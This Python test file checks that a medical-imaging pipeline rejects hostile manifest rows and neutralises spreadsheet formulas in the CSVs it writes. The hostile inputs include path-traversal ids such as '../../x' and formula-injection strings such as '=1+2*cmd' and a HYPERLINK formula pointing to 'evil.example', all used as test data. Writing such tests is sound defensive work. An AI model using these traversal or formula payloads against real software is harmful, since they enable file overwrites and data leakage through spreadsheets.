"""Hostile manifests: ids that are paths or formulas, labels that are not class indices, rows of the wrong
shape, files that are not UTF-8. Each bad row is one rejected row with a reason; a bad file is one
ManifestError; no id writes outside its folder or runs as a spreadsheet formula in any CSV written.

Property tests (hypothesis) cover arbitrary text; the examples name the inputs of the original report.
"""

from __future__ import annotations

import csv
import re
import tempfile
from functools import partial
from pathlib import Path

import pytest
from helpers import ingest_params, read_index, write_ct_series
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.config import params_from_dict
from pipeline.errors import ManifestError
from pipeline.io.artifacts import FORMULA_START, PLAIN_NUMBER, csv_cell, save_csv, save_dict_csv
from pipeline.io.index import INDEX_COLUMNS
from pipeline.layout import SAFE_ID, SAFE_ID_RULE, IngestDir, is_safe_id, safe_child
from pipeline.sources.manifest import read_manifest, split_rows
from pipeline.stages.ingest import run_ingest

REPO = Path(__file__).resolve().parents[1]
HEADER = ["case_id", "patient_id", "modality", "path", "label", "split"]
HOSTILE_IDS = ["../../x", "/abs/x", "a/b", "a\\b", "..", ".", ".hidden", "-rf", "=1+2*cmd", "@SUM(1)",
               '=HYPERLINK("http://evil.example/?q=1","open")', "+1+1", "a b", "a\nb", "x" * 129, "é1", "a:b",
               "a\x00b"]
ID_PROBLEM = re.compile(
    r"manifest line 3: (case_id is not a safe id \(%s\)|empty case_id)|duplicate case_id \(manifest line 3; .*\)"
    r"|patient_id is not a safe id \(%s\)|empty patient_id \(needed for patient-level splits\)"
    % ((re.escape(SAFE_ID_RULE),) * 2))
# Arbitrary text mostly breaks the rule: mix in near-ids (the safe characters plus separators, spaces and
# formula starts) so that both outcomes are exercised.
ID_TEXT = st.one_of(st.text(max_size=140), st.from_regex(r"\A[A-Za-z0-9._\-/\\ =@+]{1,140}\Z"),
                    st.sampled_from(HOSTILE_IDS))
PROPERTY = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def write_rows(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    """A manifest of `rows` as given (any length), quoted by the csv module."""
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def one_row(case_id="c1", patient_id="p1", modality="CT", path="scan", label="0", split="train") -> list[str]:
    return [case_id, patient_id, modality, path, label, split]


def read_one(rows: list[list[str]], **kw):
    with tempfile.TemporaryDirectory() as tmp:
        return read_manifest(write_rows(Path(tmp) / "m.csv", rows), **kw)


def _is_formula(text: str) -> bool:
    return text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text)


# ----------------------------------------------------------------------------- ids
@PROPERTY
@given(ID_TEXT)
def test_any_id_is_either_safe_and_stays_in_its_folder_or_rejected(text):
    ok, row = read_one([one_row(case_id="first", patient_id="p0"), one_row(case_id=text, patient_id=text)])
    assert ok.problem == "", ok.problem
    if row.problem == "":
        assert row.case_id == text.strip() and row.patient_id == text.strip() and is_safe_id(row.case_id)
        with tempfile.TemporaryDirectory() as tmp:
            tensors = (Path(tmp) / "tensors").resolve()
            layout = IngestDir(tmp)
            for path in (layout.tensor(row.case_id), layout.sidecar(row.case_id)):
                assert path.resolve().parent == tensors
            assert layout.mask(row.case_id).resolve().parent == (Path(tmp) / "masks").resolve()
    else:
        # a placeholder for a bad id, or a duplicate of the first row's; the reason is a fixed sentence
        assert row.case_id == "row3" or row.case_id.lower() == "first", row
        assert is_safe_id(row.case_id) and row.patient_id in ("", text.strip())
        assert ID_PROBLEM.fullmatch(row.problem), row.problem  # so it never echoes the bad id


@PROPERTY
@given(ID_TEXT)
def test_layout_refuses_every_name_that_is_not_a_safe_id(text):
    layout = IngestDir("/data/ingested")
    if is_safe_id(text):
        assert layout.tensor(text) == Path("/data/ingested/tensors") / f"{text}.npy"
    else:
        for build in (layout.tensor, layout.sidecar, layout.mask):
            with pytest.raises(ValueError, match="not safe"):
                build(text)


@pytest.mark.parametrize("bad", HOSTILE_IDS, ids=ascii)
def test_hostile_case_id_rejects_its_row_without_quoting_it(bad):
    rows = read_one([one_row(case_id="good", patient_id="p1", label="1"), one_row(case_id=bad, patient_id="p2")])
    assert rows[0].problem == "" and rows[0].case_id == "good"
    row = rows[1]
    assert row.case_id == "row3"  # the line it starts on ("a\nb" spans lines 3 and 4)
    # a fixed sentence, so the reason never echoes the bad id
    assert row.problem == f"manifest line 3: case_id is not a safe id ({SAFE_ID_RULE})"
    with pytest.raises(ValueError):
        IngestDir("/out").tensor(bad)


@pytest.mark.parametrize("bad", ["=HYPERLINK(\"http://evil\")", "@SUM(1)", "../p", "Doe^John", ""], ids=ascii)
def test_hostile_patient_id_rejects_its_row_and_is_not_kept(bad):
    row = read_one([one_row(patient_id=bad)])[0]
    assert row.patient_id == "" and row.case_id == "c1"
    assert row.problem in (f"patient_id is not a safe id ({SAFE_ID_RULE})",
                           "empty patient_id (needed for patient-level splits)")


def test_the_id_rule():
    assert SAFE_ID.pattern == "[A-Za-z0-9][A-Za-z0-9._-]{0,127}"
    for good in ("demo-c0001", "A", "pneumoniamnist-train-00001", "case_1.v2", "9" * 128):
        assert is_safe_id(good), good
    for bad in ("", "x" * 129, "a\n", "_a", ".a", "-a", "a/b", "a b", 1):
        assert not is_safe_id(bad), bad
    assert safe_child("/o/tensors", "c1", ".npy") == Path("/o/tensors/c1.npy")
    with pytest.raises(ValueError):
        safe_child("/o/tensors", "c1", "/../../x")


def test_ids_differing_only_in_letter_case_are_duplicates():
    rows = read_one([one_row(case_id="Case1"), one_row(case_id="case1", label="1")])
    assert rows[0].problem == "" and "duplicate case_id" in rows[1].problem


def test_medmnist_case_ids_are_safe():
    # the ids pipeline/sources/medmnist.py writes: f"{flag}-{split}-{i:05d}"
    assert all(is_safe_id(f"{flag}-{s}-{i:05d}") for flag in ("pneumoniamnist", "chestmnist", "organmnist3d")
               for s in ("train", "val", "test") for i in (0, 99999))


# ----------------------------------------------------------------------------- labels
LABEL_TEXT = st.one_of(st.text(max_size=30), st.integers(-10**15, 10**15).map(str), st.floats().map(repr),
                       st.from_regex(r"\A[0-9]{1,3}(\.[0-9]{0,3})?\Z"),
                       st.lists(st.sampled_from(["0", "1", "2", " 1", ""]), min_size=1, max_size=4).map(";".join))


@PROPERTY
@given(LABEL_TEXT, st.integers(1, 5))
def test_any_label_text_never_raises_and_accepted_labels_are_class_indices(text, n_classes):
    names = [f"c{i}" for i in range(n_classes)]
    rows = read_one([one_row(case_id="a", label=text, split="test")], n_classes=n_classes)
    params = params_from_dict({"data": {"class_names": names}})
    (row,) = split_rows(rows, params)  # split=test: no two-class rule for a test-only cohort
    if row.problem:
        assert row.label is None or isinstance(row.label, tuple) or row.label >= 0
        return
    if isinstance(row.label, tuple):
        assert set(row.label) <= {0, 1}
    else:
        assert isinstance(row.label, int) and 0 <= row.label < n_classes
        assert float(text) == row.label  # "1.0" is 1; "1.7" never becomes 1


@pytest.mark.parametrize("text, expected", [("0", 0), ("1", 1), ("1.0", 1), (" 1 ", 1), ("01", 1), ("1.00", 1)])
def test_integer_labels_are_accepted(text, expected):
    row = read_one([one_row(label=text)])[0]
    assert (row.label, row.problem) == (expected, "")


@pytest.mark.parametrize("text", ["7", "2", "1e12", "1000000000000", "inf", "-inf", "nan", "1.7", "-1", "", "one",
                                  "1,5", "0x1", "½", "١"], ids=ascii)
def test_non_class_labels_reject_their_row(text):
    rows = read_one([one_row(case_id="a", label="0"), one_row(case_id="b", label="1"),
                     one_row(case_id="c", label=text, patient_id="p2")])
    a, b, c = split_rows(rows, params_from_dict({}))  # default data.class_names: 2 classes
    assert a.problem == b.problem == "" and c.label is None
    assert "label" in c.problem and "class index" in c.problem, c.problem


def test_label_range_without_class_names_has_a_ceiling():
    assert "class index" in read_one([one_row(label="999999")])[0].problem
    assert read_one([one_row(label="999")])[0].problem == ""


# ----------------------------------------------------------------------------- row shape and file-level problems
def test_extra_and_missing_fields_reject_only_that_row():
    rows = read_one([one_row(case_id="a"), one_row(case_id="b", label="1") + ["surplus", "more"],
                     one_row(case_id="c")[:4], one_row(case_id="d", label="1")])
    assert [r.case_id for r in rows] == ["a", "b", "c", "d"]
    assert rows[0].problem == rows[3].problem == ""
    assert "2 more field(s) than the header's 6" in rows[1].problem
    assert "the row has 4 field(s); the header has 6" in rows[2].problem


def test_latin1_byte_is_one_error_naming_the_line(tmp_path):
    manifest = tmp_path / "m.csv"
    manifest.write_bytes("case_id,patient_id,modality,path,label\nc1,p1,CT,a,0\nc2,Müller,CT,b,1\n".encode("latin-1"))
    with pytest.raises(ManifestError, match="line 3 is not UTF-8") as err:
        read_manifest(manifest)
    assert "UTF-8" in err.value.hint


def test_utf8_with_a_bom_is_read(tmp_path):
    manifest = tmp_path / "m.csv"
    manifest.write_bytes("case_id,patient_id,modality,path,label\nc1,p1,CT,a,0\n".encode("utf-8-sig"))
    assert [(r.case_id, r.problem) for r in read_manifest(manifest)] == [("c1", "")]


@pytest.mark.parametrize("text", ["case_id,patient_id,modality,path,label\n",
                                  "case_id,patient_id,modality,path,label\n\n\n"])
def test_header_only_manifest_is_one_error(tmp_path, text):
    manifest = tmp_path / "m.csv"
    manifest.write_text(text)
    with pytest.raises(ManifestError, match="no rows"):
        read_manifest(manifest)


def test_repeated_column_is_one_error(tmp_path):
    manifest = tmp_path / "m.csv"
    manifest.write_text("case_id,patient_id,modality,path,label,label\nc1,p1,CT,a,0,1\n")
    with pytest.raises(ManifestError, match="label appear"):
        read_manifest(manifest)


def test_one_class_is_one_error_only_where_training_happens():
    params = params_from_dict({})
    train = read_one([one_row(case_id="a", patient_id="p1"), one_row(case_id="b", patient_id="p2", split="")])
    with pytest.raises(ManifestError, match="training needs at least two classes"):
        split_rows(train, params)
    test_only = read_one([one_row(case_id="a", split="test"), one_row(case_id="b", split="test")])
    assert [r.split for r in split_rows(test_only, params)] == ["test", "test"]
    # a bad row of the other class does not count; read_manifest alone (register, explain) never asks
    mixed = read_one([one_row(case_id="a"), one_row(case_id="b", label="1", modality="PET")])
    assert mixed[1].problem
    with pytest.raises(ManifestError):
        split_rows(mixed, params)


# ----------------------------------------------------------------------------- CSV formula injection
CELL_TEXT = st.one_of(st.text(max_size=40), st.sampled_from(["=1+2*cmd", "@SUM(1)", "+1", "-1.5", "-3e-4", "\t=x",
                                                             "\r=x", "-", "=", "'=x"]),
                      st.floats(allow_nan=False).map(repr), st.from_regex(r"\A[=+\-@\t\r].{0,10}\Z"))


@PROPERTY
@given(st.lists(CELL_TEXT, min_size=1, max_size=5))
def test_csv_cells_read_back_as_written_or_with_one_quote_and_never_as_formulas(values):
    columns = [f"c{i}" for i in range(len(values))]
    with tempfile.TemporaryDirectory() as tmp:
        path = save_dict_csv(Path(tmp) / "t.csv", columns, [dict(zip(columns, values))])
        with path.open(newline="", encoding="utf-8") as fh:
            record = next(csv.DictReader(fh))
        back = [record[c] for c in columns]
        save_csv(Path(tmp) / "u.csv", columns, [values])
        with (Path(tmp) / "u.csv").open(newline="", encoding="utf-8") as fh:
            assert list(csv.reader(fh))[1] == back  # both writers apply the same rule
    for sent, got in zip(values, back):
        assert got in (sent, "'" + sent)
        assert not _is_formula(got), got
        assert (got == sent) == (not _is_formula(sent))


def test_csv_rule_examples(tmp_path):
    cells = ["=1+2*cmd", "@SUM(1)", '=HYPERLINK("http://evil","x")', "+cmd", "-cmd", "\tcmd", "\rcmd", "-1.5",
             "-3e-4", "+2", "plain", "", -1.5, 3, None]
    path = save_csv(tmp_path / "x.csv", ["v"], [[c] for c in cells])
    with path.open(newline="") as fh:
        got = [r[0] for r in list(csv.reader(fh))[1:]]
    assert got == ["'=1+2*cmd", "'@SUM(1)", "'=HYPERLINK(\"http://evil\",\"x\")", "'+cmd", "'-cmd", "'\tcmd",
                   "'\rcmd", "-1.5", "-3e-4", "+2", "plain", "", "-1.5", "3", ""]
    assert csv_cell(float("-inf")) == float("-inf")  # numbers are written as numbers


def test_every_csv_the_package_writes_goes_through_artifacts():
    """csv.writer / DictWriter / to_csv only in pipeline/io/artifacts.py, where the formula rule is applied."""
    allowed = {"pipeline/io/artifacts.py",
               # synthesize writes the demo *manifest* (an input) with ids it generates itself (demo-c0001)
               "pipeline/stages/synthesize.py"}
    found = {str(p.relative_to(REPO)) for p in (REPO / "pipeline").rglob("*.py")
             if re.search(r"csv\.writer|DictWriter|\.to_csv\(", p.read_text())}
    assert found <= allowed, found - allowed


def test_report_js_uses_the_same_csv_rule():
    """report.js csvField (the review export) must match csv_cell: the same start characters and number pattern."""
    js = (REPO / "pipeline" / "reporting" / "templates" / "report.js").read_text()
    start = re.search(r"var FORMULA_START = /\^\[(.*?)\]/;", js).group(1)
    number = re.search(r"var PLAIN_NUMBER = /\^(.*?)\$/;", js).group(1)
    assert start.replace("\\-", "-").replace("\\t", "\t").replace("\\r", "\r") == "".join(FORMULA_START)
    assert number == PLAIN_NUMBER.pattern
    assert "if (FORMULA_START.test(s) && !PLAIN_NUMBER.test(s)) s = \"'\" + s;" in js


def test_review_csv_export_in_chromium(tmp_path):
    """The radiologist's exported review CSV, built by the page in a real browser, neutralises formulas."""
    from browser import chromium_context

    from pipeline.reporting.report import write_report

    ids = ["=1+2*cmd", "@SUM(1)", "case-3"]
    cases = [{"case_id": cid, "split": "test", "label": i % 2, "class_name": str(i % 2), "probability": 0.25 * (i + 1),
              "decision": i % 2, "correct": True, "uncertainty": 0.1, "images": [], "overlay_path": ""}
             for i, cid in enumerate(ids)]
    url = write_report(tmp_path / "report.html", {}, cases).as_uri()
    comment = '=HYPERLINK("http://evil.example","x")'
    with chromium_context() as ctx:
        page = ctx.pages[0] if ctx.pages else ctx.new_page()
        page.goto(url, wait_until="load")
        page.locator("tr.case").nth(2).locator("textarea").fill(comment)
        text = page.evaluate("window.resdxReviewCSV()")
    rows = list(csv.reader(text.splitlines()))
    assert [r[0] for r in rows[1:]] == ["'=1+2*cmd", "'@SUM(1)", "case-3"]
    assert rows[3][5] == "'" + comment
    assert not any(_is_formula(cell) for r in rows for cell in r)


# ----------------------------------------------------------------------------- the real ingest, end to end
_params = partial(ingest_params, seed=0, workers=1, min_slices=3, spacing=[3.0, 3.0, 3.0], shape=[16, 16, 16],
                  max_rejected_fraction=1.0)


def test_ingest_of_a_hostile_manifest_writes_every_row_and_nothing_outside(tmp_path):
    write_ct_series(tmp_path / "data" / "a", n=5, seed=51)
    write_ct_series(tmp_path / "data" / "b", n=5, seed=52)
    good = [one_row("good_a", "P1", path="data/a", label="0"), one_row("good_b", "P2", path="data/b", label="1")]
    hostile = [
        one_row("../../x", "P3", path="data/a"), one_row(f"{tmp_path}/abs/evil", "P4", path="data/a"),
        one_row("a/b", "P5", path="data/a"), one_row("=1+2*cmd", "P6", path="data/a"),
        one_row("@SUM(1)", "P7", path="data/a"), one_row("c8", '=HYPERLINK("http://e","x")', path="data/a"),
        one_row("c9", "P9", path="data/a", label="7"), one_row("c10", "P10", path="data/a", label="1e12"),
        one_row("c11", "P11", path="data/a", label="inf"), one_row("c12", "P12", path="data/a", label="1.7"),
        one_row("c13", "P13", path="data/a", label="-1"), one_row("c14", "P14", path="data/a") + ["extra"],
        one_row("c15", "P15", path="data/a")[:3],
    ]
    manifest = write_rows(tmp_path / "manifest.csv", good + hostile)
    before = {p for p in tmp_path.parent.iterdir()}
    summary = run_ingest(_params(tmp_path), manifest=manifest, progress=False)

    index = read_index(tmp_path / "out", INDEX_COLUMNS)
    assert len(index) == summary.n_rows == len(good) + len(hostile)
    assert [(r["case_id"], r["status"]) for r in index[:2]] == [("good_a", "ok"), ("good_b", "ok")]
    for r in index[2:]:
        assert (r["status"], r["reason_code"]) == ("rejected", "bad_manifest_row"), r
        assert is_safe_id(r["case_id"]) and r["tensor"] == ""
    assert [r["case_id"] for r in index[2:7]] == ["row4", "row5", "row6", "row7", "row8"]
    for r in index:
        assert not any(_is_formula(v) for v in r.values()), r
    assert sorted(p.name for p in (tmp_path / "out" / "tensors").iterdir()) == [
        "good_a.json", "good_a.npy", "good_b.json", "good_b.npy"]
    # nothing written outside out/ and cache/ (nor beside tmp_path)
    written = {p.relative_to(tmp_path).parts[0] for p in tmp_path.rglob("*")}
    assert written == {"data", "manifest.csv", "out", "cache"}, written
    assert {p for p in tmp_path.parent.iterdir()} == before
    assert not (tmp_path / "x.npy").exists() and not (tmp_path / "abs").exists()



def test_a_folder_left_in_tensors_by_an_old_run_does_not_break_ingest(tmp_path):
    """Before ids were checked, case_id 'a/b' made tensors/a/; every later ingest then failed on it."""
    write_ct_series(tmp_path / "data" / "a", n=5, seed=53)
    write_ct_series(tmp_path / "data" / "b", n=5, seed=54)
    left = tmp_path / "out" / "tensors" / "a"
    left.mkdir(parents=True)
    (left / "b.npy").write_bytes(b"old")
    manifest = write_rows(tmp_path / "manifest.csv", [one_row("A", "P1", path="data/a", label="0"),
                                                      one_row("B", "P2", path="data/b", label="1")])
    summary = run_ingest(_params(tmp_path), manifest=manifest, progress=False)
    assert summary.n_ok == 2 and (left / "b.npy").read_bytes() == b"old"
